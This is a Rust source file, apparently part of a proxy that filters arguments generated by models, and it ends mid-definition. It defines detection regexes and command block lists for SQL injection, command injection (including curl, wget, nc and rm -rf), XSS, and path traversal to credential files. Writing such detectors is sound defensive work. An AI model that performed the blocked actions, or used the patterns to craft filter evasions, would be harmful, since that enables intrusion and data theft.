//! Argument rules: built-in rule sets and blocked patterns, compiled once.
//!
//! Every literal pattern goes into one [`AhoCorasick`] automaton (ASCII case-insensitive)
//! and every regex into one [`RegexSet`], so a value is scanned once by each whatever the
//! number of rules. A scan first asks "does anything match?" (which stops at the first
//! match and allocates nothing); only when something does are the matching rules listed.
//!
//! The built-in patterns are not searched over the whole value. One pass over its bytes,
//! sixteen at a time, finds the bytes that can start one (every built-in pattern starts
//! with `'` `"` `;` `/` `\` `%` `.` `:` `&` `|` `` ` `` `$` `<` `>` or a line feed, or at the
//! start of the value), the gate bytes of the gated search (`<` `:` `=` for XSS, the `-`
//! after `rm` for the command rule's flag pattern), the bytes that may start a
//! forbidden control character and the `:` of a `://`, so the same pass also answers the
//! control-character check and says whether the URL rules have anything to look at. The
//! anchored search runs only at a trigger byte whose following bytes can continue some
//! pattern starting there (`may_start_at`, `start_may_match`); a value without such a
//! byte never reaches the automaton. Why this finds every match is checked, not assumed:
//! property tests compare the pass with a plain search of every pattern on arbitrary
//! strings, on strings built from the patterns' own tokens and on the attack corpus, and
//! check that the anchored search never matches at a position the pass does not try. The
//! configured blocked patterns (literals and regexes) are always searched whole, by their
//! own automata, so nothing about them is assumed.
//!
//! Every rule also matches the normalized view of a value ([`text::normalize_for_rules`];
//! for blocked patterns also [`text::fold_whitespace`], and literals case-folded). The same
//! pass notes the bytes that may make the view differ (`%`, `&` before `#` or a letter, a
//! doubled separator or a `.` segment, whitespace when blocked patterns are configured);
//! the view is computed only for those values and for values that are not pure ASCII, so
//! an ordinary ASCII value is never copied. A non-ASCII value without such a byte skips the
//! decoding rounds, and the Unicode step too when every non-ASCII character is one NFKC
//! keeps (checked a word at a time over ASCII); it is then copied only if it holds a `:/`
//! (separators after a `:` are folded in the view but not flagged by the pass). The value
//! forwarded is never the view.
//!
//! The built-in rule sets ([`Category`]) are deliberately anchored on syntax: each SQL
//! injection pattern needs one of the characters the seeds strip (`;`, `'`, `"`, `--`,
//! `/*`, `*/`) and each command injection pattern one of `; | & $ ( ) < > \` \``, so that
//! the seeds' strip action (remove those characters) always neutralises what was found;
//! the exceptions, a line feed before a command and `rm` with recursive or force flags,
//! and matches found only in the normalized view, are refused when stripping cannot remove
//! them (the value still matches after the strip rounds).
//! They are a filter for model-generated arguments, not a complete WAF: a value built to
//! evade them (look-alikes NFKC keeps apart, encodings other than the percent and HTML
//! forms decoded, commands without a separator) can.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use regex_automata::util::syntax;
use regex_automata::{Anchored, Input, PatternSet, meta};
use serde::{Deserialize, Serialize};

use crate::classify;
use crate::config::ConfigError;
use crate::{shell, supplement, text};

/// A built-in rule set.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// SQL injection: quote or semicolon followed by SQL, tautologies, stacked queries,
    /// `UNION SELECT` after a quote, time-based probes.
    SqlInjection,
    /// Command injection: a shell separator (`;`, `|`, `&`, backtick) followed by a
    /// command, `$(...)`, `${...}`, redirections to system paths.
    CommandInjection,
    /// Cross-site scripting: `<script`, `javascript:` / `vbscript:` URLs, inline event
    /// handlers, `<iframe>` / `<object>` / `<embed>`, `data:text/html`.
    Xss,
    /// Path traversal: `..` path segments (plain and percent-encoded, including double
    /// and overlong encodings), `%00`, well-known sensitive files.
    PathTraversal,
}

impl Category {
    /// All categories.
    pub const ALL: [Category; 4] = [
        Category::SqlInjection,
        Category::CommandInjection,
        Category::Xss,
        Category::PathTraversal,
    ];

    /// The rule name used in configuration, rejections and audit records.
    pub const fn name(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::CommandInjection => "command_injection",
            Self::Xss => "xss",
            Self::PathTraversal => "path_traversal",
        }
    }

    /// How the category is searched: every pattern of an *anchored* category starts with
    /// one of these bytes (or at the start of the value), so it is tried only there; a
    /// *gated* category is searched only in values that contain one of these bytes.
    const fn triggers(self) -> (&'static [u8], bool) {
        match self {
            Self::SqlInjection => (b"'\";/", true),
            Self::CommandInjection => (b";&|`$<>\n", true),
            Self::PathTraversal => (b"/\\%.:", true),
            Self::Xss => (b"<:=", false),
        }
    }

    /// The detection regexes of the category (ASCII, case-insensitive).
    pub fn patterns(self) -> &'static [&'static str] {
        match self {
            Self::SqlInjection => SQL_PATTERNS,
            Self::CommandInjection => COMMAND_PATTERNS,
            Self::Xss => XSS_PATTERNS,
            Self::PathTraversal => PATH_PATTERNS,
        }
    }

    /// The index of the first of [`Self::patterns`] searched as gated (the rest of an
    /// anchored category's patterns are anchored at its trigger bytes).
    const fn gated_from(self) -> usize {
        match self {
            Self::SqlInjection => SQL_PATTERNS.len(),
            // `rm` with recursive or force flags, gated by the `-` after `rm`.
            Self::CommandInjection => COMMAND_PATTERNS.len() - 1,
            Self::Xss => 0,
            Self::PathTraversal => PATH_PATTERNS.len(),
        }
    }
}

const SQL_PATTERNS: &[&str] = &[
    // Tautologies after a quote: ' OR '1'='1, " or 1=1, ' AND 1 LIKE 1
    r#"['"]\s*\)?\s*(?:or|and|xor)\s+[^\s=<>]+\s*(?:=|<|>|like\b|is\b)"#,
    // A quote closing the literal then a statement end or a comment.
    r#"['"]\s*\)?\s*(?:;|--|/\*|#)"#,
    // Stacked queries.
    r";\s*(?:(?:drop|truncate|alter)\s+(?:table|database|schema|user|index|view)\b|delete\s+from\b|insert\s+into\b|update\s+\S+\s+set\b|select\b.*\bfrom\b|exec(?:ute)?\s|shutdown\b|grant\s|revoke\s|create\s+(?:table|user|database|function|procedure)\b|declare\s+@)",
    // UNION SELECT after a quote (and a parenthesis), comments allowed as spaces.
    r#"['"]\s*\)?\s*(?:\s|/\*.*?\*/)*union(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+)?select\b"#,
    // Time-based and out-of-band probes after a quote or semicolon.
    r#"[;'"]\s*\)?\s*(?:(?:and|or)\s+)?(?:waitfor\s+delay|sleep\s*\(|benchmark\s*\(|pg_sleep\s*\(|dbms_pipe\.|load_file\s*\(|into\s+(?:out|dump)file)"#,
    // Comment-obfuscated keywords: UN/**/ION, SEL/**/ECT
    r"/\*.*?\*/[a-z]",
    // A statement ending in a comment: ;--
    r";\s*--",
];

/// Commands that are also ordinary words or column names (`id`, `env`): matched after a
/// separator only when nothing but the end, a newline or another separator follows, so
/// that a markdown row `| id | name |` is not a pipeline.
macro_rules! short_commands {
    () => {
        "id|env|printenv|pwd|hostname|who|uptime|groups|netstat"
    };
}

macro_rules! shell_commands {
    () => {
        "rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|csh|tcsh|python[0-9.]*|perl|ruby|php|node|lua|chmod|chown|chgrp|cat|echo|printf|mkfifo|telnet|ssh|scp|sftp|sudo|su|kill|pkill|killall|eval|exec|base64|xxd|whoami|uname|ifconfig|ping|nslookup|dig|powershell|pwsh|cmd|certutil|bitsadmin|wmic|crontab|nohup|awk|sed|xargs|ls|ps|socat|openssl|systemctl|shutdown|reboot|mkdir|rmdir|tar|docker|kubectl"
    };
}

const COMMAND_PATTERNS: &[&str] = &[
    // A separator (or a substitution) followed by a command. A comma right after the
    // word makes it another word: the `;base64,` of a `data:` URI is no command.
    concat!(
        r"(?:[;&`]|\$\()\s*(?:(?:/usr)?/s?bin/)?(?:",
        shell_commands!(),
        r")\b(?:[^,]|$)"
    ),
    // A pipe followed by a command that ends the value or a line, or takes an argument:
    // not a markdown cell (`| cat | 3 |`).
    concat!(
        r"\|\s*(?:(?:/usr)?/s?bin/)?(?:",
        shell_commands!(),
        r")\b(?:\s*$|\s*[;&\n)`<>]|\s+[^|\s])"
    ),
    // Command substitution and parameter expansion.
    r"\$\([^)]*\)",
    r"\$\{[^}]*\}",
    // Redirection to or from system paths, or to another descriptor.
    r"[<>]\s*/(?:etc|dev|tmp|proc|sys|var|root|home|boot|usr|bin)\b",
    r">\s*&\s*[0-9]",
    // Chained commands.
    r"(?:&&|\|\|)\s*\S",
    // A separator hidden with $IFS.
    r"\$IFS\b",
    // A short command alone after a separator: `x | id`, `a; env`.
    concat!(
        r"(?:[;&|]|\$\()\s*(?:(?:/usr)?/s?bin/)?(?:",
        short_commands!(),
        r")\s*(?:$|[;&\n)`])"
    ),
    // A newline then a command line: `example.com\nid`, `x\n cat /etc/passwd`.
    concat!(
        r"\n\s*(?:(?:/usr)?/s?bin/)?(?:",
        shell_commands!(),
        "|",
        short_commands!(),
        r")(?:\s*$|\s*[;&|`<>\n]|\s+-|\s+\S*[/~$])"
    ),
    // Process substitution: `<(curl ...)`, `>(sh)`.
    concat!(
        r"[<>]\(\s*(?:(?:/usr)?/s?bin/)?(?:",
        shell_commands!(),
        "|",
        short_commands!(),
        r")\b"
    ),
    // `rm` with recursive or force flags on the root, a top-level directory, home or a
    // glob (gated: searched when a `-` follows `rm`; must stay the last pattern).
    r"\brm\s+(?:-[-a-z]*\s+)+(?:/+(?:\*|\s|$|(?:etc|usr|bin|sbin|boot|home|var|root|lib\w*|opt|dev|proc|sys|srv)\b)|~/?(?:\s|$|\*)|\*|\$\{?home\b)",
];

const XSS_PATTERNS: &[&str] = &[
    r"<\s*/?\s*script\b[^>]*>?",
    // Browsers drop tabs and newlines inside a URL: `java\tscript:`.
    r"(?:j[\t\n\r]*a[\t\n\r]*v[\t\n\r]*a|v[\t\n\r]*b|l[\t\n\r]*i[\t\n\r]*v[\t\n\r]*e)[\t\n\r]*s[\t\n\r]*c[\t\n\r]*r[\t\n\r]*i[\t\n\r]*p[\t\n\r]*t\s*:",
    r"\bon(?:abort|afterprint|animationend|animationiteration|animationstart|auxclick|beforeprint|beforeunload|begin|blur|canplay|change|click|contextmenu|copy|cut|dblclick|drag|dragend|dragenter|dragleave|dragover|dragstart|drop|end|error|focus|focusin|focusout|hashchange|input|invalid|keydown|keypress|keyup|load|message|mousedown|mouseenter|mouseleave|mousemove|mouseout|mouseover|mouseup|paste|pointerdown|pointerenter|pointerover|pointerup|popstate|repeat|reset|resize|scroll|search|select|show|start|submit|toggle|touchstart|transitionend|unload|wheel)\s*=",
    r"<\s*(?:iframe|frame|object|embed|applet|meta|base|link|form|svg|math)\b",
    r"data\s*:\s*(?:text/html|image/svg\+xml|application/(?:x-)?javascript)",
    r"srcdoc\s*=",
    // Any event handler by its shape, inside a tag (`<svg/onpointerrawupdate=`) or
    // after a quote that closes an attribute (`" onbeforetoggle="`).
    r#"<[a-z][^>]*[\s/"'`]on[a-z]{3,}\s*="#,
    r#"["'`][\s/]*on[a-z]{3,}\s*="#,
];

const PATH_PATTERNS: &[&str] = &[
    // A `..` segment with / or \ separators (or at an end).
    r"(?:^|[/\\])\.\.(?:[/\\;]|$)",
    // Percent-encoded dots and separators: %2e%2e, .%2e, %2e., %252e, overlong UTF-8.
    r"(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e)(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e|\.)",
    r"\.(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e)",
    r"\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%e0%80%af)",
    // Embedded NUL.
    r"%00",
    // Well-known sensitive files.
    r"(?:^|[/\\])etc[/\\](?:passwd|shadow|sudoers|group|hosts)\b",
    r"(?:^|[/\\])proc[/\\]self[/\\]",
    r"(?:^|[/\\])\.ssh[/\\]",
    r"(?:^|[/\\])\.aws[/\\]credentials",
    r":\\+windows\\+",
];

/// What a rule does when it matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum RuleAction {
    /// Refuse the request: 400, JSON-RPC -32602 naming the rule and the JSON path.
    #[default]
    Reject,
    /// Clean the value (as the seeds describe) and forward the rewritten body.
    Strip,
}

/// How a matching value is cleaned by [`RuleAction::Strip`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cleaner {
    /// Remove the seeds' SQL characters and tokens.
    Sql,
    /// Remove the seeds' command characters and `;`.
    Command,
    /// Remove what the rule's patterns match.
    RemoveMatches,
    /// Not a content rule (URL rules, limits): never stripped.
    None,
}

/// A compiled rule.
#[derive(Debug, Clone)]
pub(crate) struct RuleMeta {
    pub(crate) name: Cow<'static, str>,
    pub(crate) action: RuleAction,
    cleaner: Cleaner,
    /// Indices into `RuleEngine::regexes` of the rule's own regexes (for stripping).
    regexes: Vec<usize>,
    /// Indices of the rule's literal patterns in the automaton (for stripping).
    literals: Vec<usize>,
}

/// Names of the non-content rules, which take the first rule indices.
pub(crate) const URL_SCHEME: usize = 0;
pub(crate) const URL_LENGTH: usize = 1;
pub(crate) const URL_INVALID: usize = 2;
pub(crate) const SSRF: usize = 3;
const FIXED_RULES: [&str; 4] = ["url_scheme", "url_length", "url_invalid", "ssrf"];

/// A set of rule indices (a bitset).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct RuleSet(Vec<u64>);

impl RuleSet {
    pub(crate) fn insert(&mut self, i: usize) {
        let w = i / 64;
        if self.0.len() <= w {
            self.0.resize(w + 1, 0);
        }
        self.0[w] |= 1 << (i % 64);
    }

    pub(crate) fn contains(&self, i: usize) -> bool {
        self.0.get(i / 64).is_some_and(|w| w & (1 << (i % 64)) != 0)
    }

    fn remove_all(&mut self, other: &RuleSet) {
        for (w, o) in self.0.iter_mut().zip(other.0.iter()) {
            *w &= !o;
        }
    }

    pub(crate) fn is_empty(&self) -> bool {
        self.0.iter().all(|w| *w == 0)
    }

    pub(crate) fn iter(&self) -> impl Iterator<Item = usize> + '_ {
        self.0.iter().enumerate().flat_map(|(wi, &w)| {
            (0..64)
                .filter(move |b| w & (1u64 << b) != 0)
                .map(move |b| wi * 64 + b)
        })
    }
}

/// A blocked pattern from the configuration: a literal string (the seeds' form, matched
/// ignoring ASCII case) or a regex, with an optional name and action.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum BlockedPattern {
    /// A literal string, matched anywhere in a value, ignoring ASCII case.
    Literal(String),
    /// A literal or a regex with its own name and action.
    Detailed {
        /// The rule name (default `blocked_pattern[<index>]`). Must be unique.
        #[serde(default)]
        name: Option<String>,
        /// A literal string (exactly one of `literal` and `regex`).
        #[serde(default)]
        literal: Option<String>,
        /// A regex (Rust `regex` syntax, matched on the UTF-8 bytes of the value).
        #[serde(default)]
        regex: Option<String>,
        /// The action (default: `blocked_patterns_action`).
        #[serde(default)]
        action: Option<RuleAction>,
    },
}

/// Per-category switch and action of the built-in rule sets.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct BuiltinRule {
    /// Whether the rule set is applied.
    pub enabled: bool,
    /// What a match does.
    pub action: RuleAction,
}

impl Default for BuiltinRule {
    fn default() -> Self {
        Self {
            enabled: true,
            action: RuleAction::Reject,
        }
    }
}

/// The built-in rule sets, each selectable. All are enabled with [`RuleAction::Reject`] by
/// default.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
pub struct BuiltinRules {
    /// [`Category::SqlInjection`].
    pub sql_injection: BuiltinRule,
    /// [`Category::CommandInjection`].
    pub command_injection: BuiltinRule,
    /// [`Category::Xss`].
    pub xss: BuiltinRule,
    /// [`Category::PathTraversal`].
    pub path_traversal: BuiltinRule,
}

impl BuiltinRules {
    /// Every rule set disabled.
    pub fn none() -> Self {
        let off = BuiltinRule {
            enabled: false,
            action: RuleAction::Reject,
        };
        Self {
            sql_injection: off.clone(),
            command_injection: off.clone(),
            xss: off.clone(),
            path_traversal: off,
        }
    }

    /// The setting of a category.
    pub fn get(&self, c: Category) -> &BuiltinRule {
        match c {
            Category::SqlInjection => &self.sql_injection,
            Category::CommandInjection => &self.command_injection,
            Category::Xss => &self.xss,
            Category::PathTraversal => &self.path_traversal,
        }
    }

    /// The setting of a category, mutably.
    pub fn get_mut(&mut self, c: Category) -> &mut BuiltinRule {
        match c {
            Category::SqlInjection => &mut self.sql_injection,
            Category::CommandInjection => &mut self.command_injection,
            Category::Xss => &mut self.xss,
            Category::PathTraversal => &mut self.path_traversal,
        }
    }
}

/// The compiled rules: one automaton for the literals, one regex set for the regexes.
#[derive(Debug, Clone)]
pub(crate) struct RuleEngine {
    pub(crate) rules: Vec<RuleMeta>,
    ac: Option<AhoCorasick>,
    ac_rule: Vec<usize>,
    /// The configured regexes (blocked patterns), searched everywhere.
    set: Option<RegexSet>,
    set_rule: Vec<usize>,
    /// Built-in patterns that start at a trigger byte: tried only there.
    anchored: Option<TriggeredSet>,
    /// Built-in patterns searched only in values holding a gate byte.
    gated: Option<TriggeredSet>,
    /// Per byte: [`TRIGGER`] for `anchored`, [`GATE`] for `gated`, [`CTRL`] and [`COLON`]
    /// for the value facts. Every byte with a flag is in [`classify::value_byte`].
    flags: [u8; 256],
    /// Every regex by source index, to strip what a rule matched.
    regexes: Vec<Regex>,
    /// Whether blocked patterns are configured: they also see whitespace runs folded.
    fold_spaces: bool,
    /// The command injection patterns and [`supplement::SHELL_PATTERNS`], searched on
    /// the shell view ([`shell::shell_view`]).
    shell: Option<TriggeredSet>,
    /// The supplementary patterns of the other categories ([`supplement::patterns`]).
    extra: Option<TriggeredSet>,
    /// Their prefilter literals: without one, the supplementary patterns are not searched.
    extra_pre: Option<AhoCorasick>,
}

const TRIGGER: u8 = 1;
const GATE: u8 = 2;
/// A byte that may start a forbidden control character.
const CTRL: u8 = 4;
/// `:`, which may start the `://` of a URL.
const COLON: u8 = 8;
/// A byte that may make the normalized view differ from the value: `%`, `&`, a path
/// separator, and (with blocked patterns) whitespace other than the space.
const NORM: u8 = 16;

/// Built-in patterns compiled together, with the bytes that trigger (or gate) a search.
#[derive(Debug, Clone)]
struct TriggeredSet {
    re: meta::Regex,
    rule: Vec<usize>,
}

impl TriggeredSet {
    fn build(src: &[String], rule: Vec<usize>) -> Result<Option<Self>, ConfigError> {
        if src.is_empty() {
            return Ok(None);
        }
        let re = meta::Regex::builder()
            .configure(
                meta::Regex::config()
                    .match_kind(regex_automata::MatchKind::All)
                    .nfa_size_limit(Some(REGEX_SIZE_LIMIT))
                    // The lazy DFA for the many short anchored searches: the bounded
                    // backtracker would clear a visited set sized by the haystack each time.
                    .backtrack(false)
                    .onepass(false),
            )
            .syntax(syntax::Config::new().utf8(false))
            .build_many(src)
            .map_err(|_| ConfigError::invalid("rules", "built-in patterns failed to compile"))?;
        Ok(Some(Self { re, rule }))
    }

    /// Anchored search at `p`.
    fn matches_at(&self, b: &[u8], p: usize) -> bool {
        self.re.is_match(
            Input::new(b)
                .range(p..)
                .anchored(Anchored::Yes)
                .earliest(true),
        )
    }

    /// Unanchored search.
    fn matches_anywhere(&self, b: &[u8]) -> bool {
        self.re.is_match(Input::new(b).earliest(true))
    }

    /// Every pattern that matches anywhere (same result as the triggered search, since
    /// no pattern can start elsewhere), as rules.
    fn matches_into(&self, b: &[u8], out: &mut RuleSet) {
        let mut set = PatternSet::new(self.re.pattern_len());
        self.re.which_overlapping_matches(&Input::new(b), &mut set);
        for pid in set.iter() {
            if let Some(&r) = self.rule.get(pid.as_usize()) {
                out.insert(r);
            }
        }
    }
}

/// `\s` of the built-in patterns (ASCII whitespace, vertical tab included).
fn is_regex_space(b: u8) -> bool {
    matches!(b, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ')
}

/// A necessary condition for an XSS pattern to match through the gate byte at `p`: every
/// XSS pattern holds `<`, or `script`/`data` then `\s*:`, or `srcdoc` then `\s*=`, or a
/// word starting with `on` then `\s*=`. Checked before the (unanchored) XSS search so that
/// URLs with `:` and `=` do not pay for it. The gated `rm` pattern of the command
/// injection rule holds `rm`, spaces, then `-`: a `-` gates only there.
fn gate_at(b: &[u8], p: usize) -> bool {
    let Some(&c) = b.get(p) else {
        return false;
    };
    if c == b'-' {
        // `\brm\s+-`: the word before the spaces before the `-` is `rm`.
        let mut end = p;
        while end > 0 && is_regex_space(b[end - 1]) {
            end -= 1;
        }
        // The word is `rm` when it ends with `rm` and nothing of a word comes before.
        let word = |i: usize| b[i].is_ascii_alphanumeric() || b[i] == b'_';
        return end < p
            && end >= 2
            && b[end - 2..end].eq_ignore_ascii_case(b"rm")
            && (end == 2 || !word(end - 3));
    }
    if c != b':' && c != b'=' {
        return true;
    }
    let mut end = p;
    while end > 0 && is_regex_space(b[end - 1]) {
        end -= 1;
    }
    let before = &b[..end];
    let ends_with = |word: &[u8]| {
        before.len() >= word.len() && before[before.len() - word.len()..].eq_ignore_ascii_case(word)
    };
    if c == b':' {
        return ends_with_loose(before, b"script") || ends_with(b"data");
    }
    if ends_with(b"srcdoc") {
        return true;
    }
    let mut start = end;
    while start > 0 && (b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_') {
        start -= 1;
    }
    b[start..end].len() >= 2 && b[start..start + 2].eq_ignore_ascii_case(b"on")
}

/// Whether `before` ends with `word` (ASCII case ignored), tabs, line feeds and carriage
/// returns inside it ignored, as browsers drop them inside a URL scheme.
fn ends_with_loose(before: &[u8], word: &[u8]) -> bool {
    let mut i = before.len();
    for &w in word.iter().rev() {
        loop {
            if i == 0 {
                return false;
            }
            i -= 1;
            if !matches!(before[i], b'\t' | b'\n' | b'\r') {
                break;
            }
        }
        if !before[i].eq_ignore_ascii_case(&w) {
            return false;
        }
    }
    true
}

/// The commands of the command injection rule, one by one (the rule's regex alternation
/// is [`shell_commands!`]; a unit test checks that every command of it is here).
fn is_shell_command(word: &[u8]) -> bool {
    let mut buf = [0u8; 10];
    let Some(lower) = buf.get_mut(..word.len()) else {
        return false;
    };
    for (d, s) in lower.iter_mut().zip(word) {
        *d = s.to_ascii_lowercase();
    }
    matches!(
        &*lower,
        b"rm"
            | b"curl"
            | b"wget"
            | b"nc"
            | b"ncat"
            | b"netcat"
            | b"bash"
            | b"sh"
            | b"zsh"
            | b"dash"
            | b"ksh"
            | b"csh"
            | b"tcsh"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"node"
            | b"lua"
            | b"chmod"
            | b"chown"
            | b"chgrp"
            | b"cat"
            | b"echo"
            | b"printf"
            | b"mkfifo"
            | b"telnet"
            | b"ssh"
            | b"scp"
            | b"sftp"
            | b"sudo"
            | b"su"
            | b"kill"
            | b"pkill"
            | b"killall"
            | b"eval"
            | b"exec"
            | b"base64"
            | b"xxd"
            | b"whoami"
            | b"uname"
            | b"ifconfig"
            | b"ping"
            | b"nslookup"
            | b"dig"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
            | b"certutil"
            | b"bitsadmin"
            | b"wmic"
            | b"crontab"
            | b"nohup"
            | b"awk"
            | b"sed"
            | b"xargs"
            | b"ls"
            | b"ps"
            | b"socat"
            | b"openssl"
            | b"systemctl"
            | b"shutdown"
            | b"reboot"
            | b"mkdir"
            | b"rmdir"
            | b"tar"
            | b"docker"
            | b"kubectl"
            // `short_commands!`.
            | b"id"
            | b"env"
            | b"printenv"
            | b"pwd"
            | b"hostname"
            | b"who"
            | b"uptime"
            | b"groups"
            | b"netstat"
    )
}

/// The first index at or after `i` that is not a `\s` of the built-in patterns.
fn skip_spaces(b: &[u8], mut i: usize) -> usize {
    while b.get(i).is_some_and(|&c| is_regex_space(c)) {
        i += 1;
    }
    i
}

/// Whether `b[i..]` starts with `prefix`, ignoring ASCII case.
fn starts_with_ci(b: &[u8], i: usize, prefix: &[u8]) -> bool {
    b.get(i..i + prefix.len())
        .is_some_and(|w| w.eq_ignore_ascii_case(prefix))
}

/// Whether a SQL injection pattern that starts with a quote may continue at `b[i..]`
/// (after the quote and `\s*\)?\s*`): with the first token of one of its alternatives,
/// `or`, `and`, `xor`, `;`, `--`, `/*` (tested as `/`), `#`, `union`, `waitfor`, `sleep`,
/// `benchmark`, `pg_sleep`, `dbms_pipe`, `load_file` or `into`.
fn sql_may_follow_quote(b: &[u8], i: usize) -> bool {
    let Some(&c) = b.get(i) else {
        return false;
    };
    let word: &[u8] = match c.to_ascii_lowercase() {
        b';' | b'/' | b'#' => return true,
        b'-' => b"--",
        b'o' => b"or",
        b'a' => b"and",
        b'x' => b"xor",
        b'u' => b"union",
        b'w' => b"waitfor",
        b's' => b"sleep",
        b'b' => b"benchmark",
        b'p' => b"pg_sleep",
        b'd' => b"dbms_pipe",
        b'l' => b"load_file",
        b'i' => b"into",
        _ => return false,
    };
    starts_with_ci(b, i, word)
}

/// A necessary condition for a built-in pattern anchored with `^` to match at the start
/// of a value: `(?:^|[/\\])` then `\.\.`, `etc[/\\]`, `proc[/\\]`, `\.ssh[/\\]` or
/// `\.aws[/\\]`. (The test `start_filter_never_hides_a_match` checks that every anchored
/// match is at a position the search tries.)
fn start_may_match(b: &[u8]) -> bool {
    match b.first() {
        Some(b'.') => matches!(b.get(1), Some(b'.' | b's' | b'S' | b'a' | b'A')),
        Some(b'e' | b'E') => starts_with_ci(b, 0, b"etc") && matches!(b.get(3), Some(b'/' | b'\\')),
        Some(b'p' | b'P') => {
            starts_with_ci(b, 0, b"proc") && matches!(b.get(4), Some(b'/' | b'\\'))
        }
        _ => false,
    }
}

/// A necessary condition for an anchored built-in pattern to match at the trigger byte
/// `b[p]`, from the bytes that follow it: what each pattern starting with that byte needs
/// next (a pattern that can start at a byte not listed here is always tried). Wrong only
/// if it said no where a pattern matches; the property test
/// `start_filter_never_hides_a_match` tries the anchored search at every trigger the
/// filter refuses, and `triggered_search_equals_plain_search` compares the whole search
/// with a plain search of every pattern.
#[inline(always)]
fn may_start_at(b: &[u8], p: usize) -> bool {
    let Some(&c) = b.get(p) else {
        return false;
    };
    let next = b.get(p + 1).copied();
    match c {
        // Path traversal: `..`, `.%2e`; `.ssh` and `.aws` only after a separator or at
        // the start (tried at the start separately).
        b'.' => matches!(next, Some(b'.' | b'%')),
        // `/*` (SQL), `/..`, `/etc/`, `/proc/`, `/.ssh/`, `/.aws/`.
        b'/' | b'\\' => matches!(next, Some(b'*' | b'.' | b'e' | b'E' | b'p' | b'P')),
        // `:\windows\`.
        b':' => next == Some(b'\\'),
        // `%2e`, `%252e`, `%c0%ae`, `%e0%80%ae`, `%u002e`, `%00`.
        b'%' => {
            let after = b.get(p + 2).map(u8::to_ascii_lowercase);
            match next.map(|n| n.to_ascii_lowercase()) {
                Some(b'2') => matches!(after, Some(b'e' | b'5')),
                Some(b'c' | b'e' | b'u' | b'0') => after == Some(b'0'),
                _ => false,
            }
        }
        // `$(`, `${`, `$IFS`.
        b'$' => matches!(next, Some(b'(' | b'{' | b'i' | b'I')),
        // Redirections: `<\s*/`, `>\s*/`, `>\s*&`.
        // and process substitution `<(`, `>(`.
        b'<' | b'>' => {
            next == Some(b'(') || matches!(b.get(skip_spaces(b, p + 1)), Some(b'/' | b'&'))
        }
        // A quote, then `\s*\)?\s*`, then the first token of an alternative.
        b'\'' | b'"' => {
            let mut i = skip_spaces(b, p + 1);
            if b.get(i) == Some(&b')') {
                i = skip_spaces(b, i + 1);
            }
            sql_may_follow_quote(b, i)
        }
        // `&&`, `||`; a separator, `\s*`, an optional `(/usr)?/s?bin/`, then a command
        // and a word boundary: the whole word is a command, or starts with `python`.
        b'&' | b'|' | b'`' | b'\n' => {
            if next == Some(c) {
                return true;
            }
            let start = skip_spaces(b, p + 1);
            if b.get(start) == Some(&b'/') {
                return true;
            }
            let len = b
                .get(start..)
                .unwrap_or_default()
                .iter()
                .take_while(|&&w| w.is_ascii_alphanumeric() || w == b'_')
                .count();
            let word = &b[start..start + len];
            starts_with_ci(word, 0, b"python") || is_shell_command(word)
        }
        _ => true,
    }
}

/// Whether the byte at `p` (one with the [`NORM`] flag) may make the normalized view
/// differ: `%`; `&` before `#` or a letter; a path separator before another or before a
/// `.` segment; whitespace (flagged only with blocked patterns).
#[inline(always)]
fn view_at(b: &[u8], p: usize) -> bool {
    let is_sep = |c: Option<&u8>| matches!(c, Some(b'/' | b'\\'));
    match b[p] {
        b'%' => true,
        b'&' => b
            .get(p + 1)
            .is_some_and(|&n| n == b'#' || n.is_ascii_alphabetic()),
        // Not the `//` of a URL's `://`.
        b'/' if p > 0 && b[p - 1] == b':' => false,
        b'/' | b'\\' => {
            is_sep(b.get(p + 1))
                || (b.get(p + 1) == Some(&b'.') && (p + 2 == b.len() || is_sep(b.get(p + 2))))
        }
        _ => true,
    }
}

/// `s` lowercased where that matters to the blocked literals (ASCII-insensitive already).
fn lower(s: &str) -> Cow<'_, str> {
    if s.is_ascii() {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(s.to_lowercase())
    }
}

fn byte_table(bytes: &[u8], into: &mut [bool; 256]) {
    for &b in bytes {
        into[b as usize] = true;
    }
}

/// The outcome of scanning one value.
#[derive(Debug)]
pub(crate) enum ScanResult {
    /// No non-exempt rule matched.
    Clean,
    /// A rejecting rule matched (its index).
    Reject(usize),
    /// Only stripping rules matched.
    Strip(RuleSet),
}

/// What the one pass over a value found besides the rules.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct ValueFacts {
    /// A forbidden control character ([`text::is_forbidden_control`]).
    pub(crate) control: bool,
    /// A `:` that may end a scheme ([`crate::ssrf::colon_may_start_url`]): without one,
    /// [`crate::ssrf::find_urls`] finds nothing. (May be true without a URL.)
    pub(crate) url: bool,
    /// Where that `:` is when there is exactly one (`None` when unknown).
    pub(crate) single_url: Option<usize>,
    /// A byte that may make the normalized view differ (see [`NORM`]).
    pub(crate) view: bool,
}

/// The rules and the facts of one value.
#[derive(Debug)]
pub(crate) struct ValueScan {
    /// The other facts.
    pub(crate) facts: ValueFacts,
    /// The rules.
